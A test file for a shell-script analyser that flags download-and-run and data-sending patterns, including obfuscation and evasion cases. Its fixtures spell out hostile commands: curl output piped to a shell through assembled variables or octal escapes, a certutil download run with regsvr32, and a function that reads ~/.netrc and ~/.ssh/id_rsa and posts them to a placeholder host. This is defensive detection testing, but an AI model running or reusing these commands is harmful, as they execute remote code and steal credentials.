import assert from 'node:assert/strict';
import { shellSignals } from '../../../../server/src/artifacts/analysis/shell/signals.js';

const kindsIn = (text: string): readonly string[] => [...new Set(shellSignals(text).map(({ kind }) => kind))].sort();

describe('variables of a shell script', () => {
  it('are what was put into them', () => {
    assert.deepEqual(kindsIn('a=cu\na="${a}rl"\nb=ba; b=${b}sh\n$a -s https://h.example/i | $b'), ['download-and-run']);
    assert.deepEqual(kindsIn(`r=$(printf '\\163\\150')\ncurl -s https://h.example/i | $r`), ['download-and-run']);
    assert.deepEqual(kindsIn('set U=https://h.example/a.dll\r\ncertutil -urlcache -f %U% a.dll & regsvr32 -s a.dll'), [
      'download-and-run',
    ]);
  });

  it('hold the secrets that a function reads', () => {
    const collect = 'collect() {\n  for f in ~/.netrc ~/.ssh/id_rsa; do\n    cat "$f"\n  done\n}\n';
    const send = 'curl -s --data "$d" https://h.example';
    assert.deepEqual(kindsIn(`${collect}d=$(collect | gzip | base64)\n${send}`), ['command-sends-data']);
    assert.deepEqual(kindsIn(`${collect}d=$(date)\n${send}`), []);
  });

  it('say nothing of the machine where an installer asks which program it needs', () => {
    assert.deepEqual(kindsIn('os=$(uname -s)\nu="https://h.example/$os/tool"\ncurl -o tool "$u"'), []);
    assert.deepEqual(kindsIn('detect() {\n  uname -m\n}\na=$(detect)\ncurl -o tool https://h.example/$a/tool'), []);
  });

  it('are read soon from scripts that are made to take long', () => {
    const escapes = String.raw`\142`.repeat(300);
    assert.deepEqual(kindsIn(`r=$(printf '${escapes}!')\ncurl -s https://h.example/i | $r`), []);
    const opened = `collect() {${'\n'.repeat(50_000)}`;
    assert.deepEqual(kindsIn(`${opened.repeat(3)}d=$(collect)\ncurl -s --data "$d" https://h.example`), []);
  });
});
